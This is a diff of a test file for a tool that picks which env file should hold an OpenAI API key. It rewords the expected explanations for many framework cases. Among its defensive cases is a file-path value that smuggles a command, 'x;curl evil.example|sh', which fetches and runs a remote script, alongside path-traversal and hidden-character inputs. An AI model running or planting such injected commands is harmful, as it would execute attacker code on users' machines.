@@ -17,75 +17,79 @@ const key = `OPENAI_API_KEY=${fakeKey('sk-proj-')}\n`;
 describe('which env file, and why', () => {
   it.each<[string, Record<string, string>, string]>([
     ['nothing known', {}, '.env · the usual place'],
-    ['Next.js', { 'package.json': needing('next') }, '.env.local · Next.js keeps secrets of this computer there'],
-    ['Vite', { 'package.json': needing('vite') }, '.env.local · Vite keeps secrets of this computer there'],
-    ['Gatsby', { 'package.json': needing('gatsby'), '.env.example': 'A=\n' }, '.env.development · Gatsby projects keep it there'],
-    ['Nuxt', { 'package.json': needing('nuxt') }, '.env · Nuxt projects keep it there'],
-    ['SvelteKit before Vite', { 'package.json': needing('vite', '@sveltejs/kit') }, '.env · SvelteKit projects keep it there'],
-    ['Django', { 'manage.py': '' }, '.env · Django projects keep it there'],
-    ['Rails', { Gemfile: 'gem "rails"\ngem "dotenv-rails"\n' }, '.env · Rails projects keep it there'],
+    ['Next.js', { 'package.json': needing('next') }, '.env.local · where Next.js keeps local secrets'],
+    ['Vite', { 'package.json': needing('vite') }, '.env.local · where Vite keeps local secrets'],
+    ['Gatsby', { 'package.json': needing('gatsby'), '.env.example': 'A=\n' }, '.env.development · where Gatsby projects keep it'],
+    ['Nuxt', { 'package.json': needing('nuxt') }, '.env · where Nuxt projects keep it'],
+    ['SvelteKit before Vite', { 'package.json': needing('vite', '@sveltejs/kit') }, '.env · where SvelteKit projects keep it'],
+    ['Django', { 'manage.py': '' }, '.env · where Django projects keep it'],
+    ['Rails', { Gemfile: 'gem "rails"\ngem "dotenv-rails"\n' }, '.env · where Rails projects keep it'],
     ['dotenv beside Next.js', { 'package.json': needing('next', 'dotenv') }, '.env · dotenv reads it'],
-    ['an example', { '.env.local.example': 'A=\n' }, '.env.local · .env.local.example is its example'],
+    ['an example', { '.env.local.example': 'A=\n' }, '.env.local · per .env.local.example'],
     [
       'an example of a mode',
       { '.env.development.example': 'A=\n', 'package.json': needing('vite') },
-      '.env.development · .env.development.example is its example',
+      '.env.development · per .env.development.example',
     ],
     ['an example for tests', { '.env.test.example': 'A=\n' }, '.env · the usual place'],
-    ['the README before the example', { 'README.md': 'cp .env.example .env.local', '.env.example': '' }, '.env.local · README.md names it'],
+    [
+      'the README before the example',
+      { 'README.md': 'cp .env.example .env.local', '.env.example': '' },
+      '.env.local · mentioned in README.md',
+    ],
     [
       'code before the README',
       { 'README.md': 'cp .env.example .env.local', 'src/a.js': `dotenv.config({path: 'config/.env'})` },
-      'config/.env · dotenv.config() names it',
+      'config/.env · loaded by dotenv.config()',
     ],
     [
       'django-environ in a settings package',
       { 'manage.py': '', 'shop/settings.py': 'environ.Env.read_env(BASE_DIR / "config" / ".env")' },
-      'config/.env · read_env() names it',
+      'config/.env · loaded by read_env()',
     ],
-    ['a notebook', { 'a.ipynb': '{"cells":[{"source":["load_dotenv(\\"config/.env\\")"]}]}' }, 'config/.env · load_dotenv() names it'],
+    ['a notebook', { 'a.ipynb': '{"cells":[{"source":["load_dotenv(\\"config/.env\\")"]}]}' }, 'config/.env · loaded by load_dotenv()'],
     [
       'a task of Deno',
       { 'deno.json': '{\n// x\n"tasks":{"dev":"deno run --env-file=.env.dev a.ts"}}' },
-      '.env.dev · the script “dev” names it',
+      '.env.dev · mentioned in the script “dev”',
     ],
     [
       'a dev container',
       { '.devcontainer/devcontainer.json': '{"runArgs":["--env-file",".devcontainer/devcontainer.env"]}' },
-      '.devcontainer/devcontainer.env · .devcontainer/devcontainer.json names it',
+      '.devcontainer/devcontainer.env · mentioned in .devcontainer/devcontainer.json',
     ],
     [
       "Firebase's functions",
       { 'firebase.json': '{}', 'functions/index.js': 'new OpenAI({ apiKey: process.env.OPENAI_API_KEY })' },
-      'functions/.env.local · Firebase projects keep it there',
+      'functions/.env.local · where Firebase projects keep it',
     ],
     [
       "Firebase's secrets",
       { 'firebase.json': '{}', 'functions/src/index.ts': 'const key = defineSecret("OPENAI_API_KEY")' },
-      'functions/.secret.local · Firebase projects keep it there',
+      'functions/.secret.local · where Firebase projects keep it',
     ],
     [
       "Supabase's functions",
       { 'supabase/config.toml': '', 'supabase/functions/ask/index.ts': 'new OpenAI()', 'package.json': needing('next') },
-      'supabase/functions/.env · Supabase projects keep it there',
+      'supabase/functions/.env · where Supabase projects keep it',
     ],
-    ['a worker without a dependency', { 'wrangler.toml': 'name = "a"' }, '.dev.vars · Wrangler projects keep it there'],
+    ['a worker without a dependency', { 'wrangler.toml': 'name = "a"' }, '.dev.vars · where Wrangler projects keep it'],
     [
       'a worker built by Vite',
       { 'wrangler.jsonc': '{}', 'package.json': needing('vite', '@cloudflare/vite-plugin') },
-      '.dev.vars · Wrangler projects keep it there',
+      '.dev.vars · where Wrangler projects keep it',
     ],
-    ['Python code', { 'main.py': 'load_dotenv(".env.dev")' }, '.env.dev · load_dotenv() names it'],
-    ['a script', { 'package.json': '{"scripts": {"dev": "node --env-file=.env.dev x.js"}}' }, '.env.dev · the script “dev” names it'],
+    ['Python code', { 'main.py': 'load_dotenv(".env.dev")' }, '.env.dev · loaded by load_dotenv()'],
+    ['a script', { 'package.json': '{"scripts": {"dev": "node --env-file=.env.dev x.js"}}' }, '.env.dev · mentioned in the script “dev”'],
     [
       'dotenv without its name',
       { 'package.json': needing('dotenv'), 'a.js': `require("dotenv").config({ path: 'config/dev.env' })` },
-      'config/dev.env · dotenv.config() names it',
+      'config/dev.env · loaded by dotenv.config()',
     ],
     [
       'dotenv by its function',
       { 'package.json': needing('dotenv'), 'a.mjs': `import { config } from 'dotenv';\nconfig({ path: '.env.local' });` },
-      '.env.local · dotenv.config() names it',
+      '.env.local · loaded by dotenv.config()',
     ],
     [
       "another's function of that name",
@@ -95,50 +99,46 @@ describe('which env file, and why', () => {
     [
       'a program of several in Go',
       { 'go.mod': 'module x', 'cmd/api/main.go': 'godotenv.Load(".env.local")' },
-      '.env.local · godotenv.Load() names it',
+      '.env.local · loaded by godotenv.Load()',
     ],
-    ['Rust', { 'Cargo.toml': '', 'src/main.rs': 'dotenvy::from_filename("dev.env").ok();' }, 'dev.env · dotenvy::from_filename() names it'],
     [
-      'Symfony',
-      { 'composer.json': '{}', 'symfony.lock': '{}', '.env': 'APP_ENV=dev\n' },
-      '.env.local · Symfony keeps secrets of this computer there',
+      'Rust',
+      { 'Cargo.toml': '', 'src/main.rs': 'dotenvy::from_filename("dev.env").ok();' },
+      'dev.env · loaded by dotenvy::from_filename()',
     ],
-    ['Wrangler', { 'package.json': needing('wrangler') }, '.dev.vars · Wrangler projects keep it there'],
-    ['dotenv-flow', { 'package.json': needing('dotenv-flow') }, '.env.local · dotenv-flow keeps secrets of this computer there'],
-    ['a compose file', { 'compose.yaml': 'services:\n  a:\n    env_file: app.env\n' }, 'app.env · compose.yaml names it'],
+    ['Symfony', { 'composer.json': '{}', 'symfony.lock': '{}', '.env': 'APP_ENV=dev\n' }, '.env.local · where Symfony keeps local secrets'],
+    ['Wrangler', { 'package.json': needing('wrangler') }, '.dev.vars · where Wrangler projects keep it'],
+    ['dotenv-flow', { 'package.json': needing('dotenv-flow') }, '.env.local · where dotenv-flow keeps local secrets'],
+    ['a compose file', { 'compose.yaml': 'services:\n  a:\n    env_file: app.env\n' }, 'app.env · mentioned in compose.yaml'],
     ['code that names what nobody can type', { 'a.js': `dotenv.config({path: 'a\u202e/.env'})` }, '.env · the usual place'],
     ['code that names a command', { 'a.js': `dotenv.config({path: 'x;curl evil.example|sh;/.env'})` }, '.env · the usual place'],
     [
       'code that names letters of any language',
       { 'a.js': `dotenv.config({path: './größe 1/@日本/.env'})` },
-      'größe 1/@日本/.env · dotenv.config() names it',
+      'größe 1/@日本/.env · loaded by dotenv.config()',
     ],
     ['code that leads out of the project', { 'a.js': `dotenv.config({path: '../../secrets/.env'})` }, '.env · the usual place'],
-    [
-      'the file with the key',
-      { 'package.json': needing('next'), '.env': key, '.env.example': '' },
-      '.env · it holds OPENAI_API_KEY already',
-    ],
+    ['the file with the key', { 'package.json': needing('next'), '.env': key, '.env.example': '' }, '.env · it already has OPENAI_API_KEY'],
     [
       'the one that wins of two',
       { 'package.json': needing('next'), '.env': key, '.env.local': key },
-      '.env.local · it holds OPENAI_API_KEY already',
+      '.env.local · it already has OPENAI_API_KEY',
     ],
     [
       'a placeholder does not count',
       { 'package.json': needing('next'), '.env': 'OPENAI_API_KEY=your-key\n' },
-      '.env.local · Next.js keeps secrets of this computer there',
+      '.env.local · where Next.js keeps local secrets',
     ],
-    ['a key in a file that nothing reads', { 'package.json': needing('nuxt'), '.env.local': key }, '.env · Nuxt projects keep it there'],
+    ['a key in a file that nothing reads', { 'package.json': needing('nuxt'), '.env.local': key }, '.env · where Nuxt projects keep it'],
   ])('%s', async (_name, files, expected) => {
     expect(await envFileOf(files)).toBe(expected);
   });
 
   it('the option, and what was chosen before, come first', async () => {
     const choose = (envFile: string) => (world: TestWorld) => world.ports.settings.choose(world.project, { envFile });
-    expect(await envFileOf({ '.env': key }, choose('.env.dev'))).toBe('.env.dev · you chose it before');
+    expect(await envFileOf({ '.env': key }, choose('.env.dev'))).toBe('.env.dev · you chose it earlier');
     expect(await envFileOf({ '.env': key }, choose('.env.dev'), '.env.other')).toBe('.env.other · --file');
-    expect(await envFileOf({ '.env': key }, choose('../elsewhere/.env'))).toBe('.env · it holds OPENAI_API_KEY already');
+    expect(await envFileOf({ '.env': key }, choose('../elsewhere/.env'))).toBe('.env · it already has OPENAI_API_KEY');
   });
 
   it('may lie above the package, within the repository', async () => {
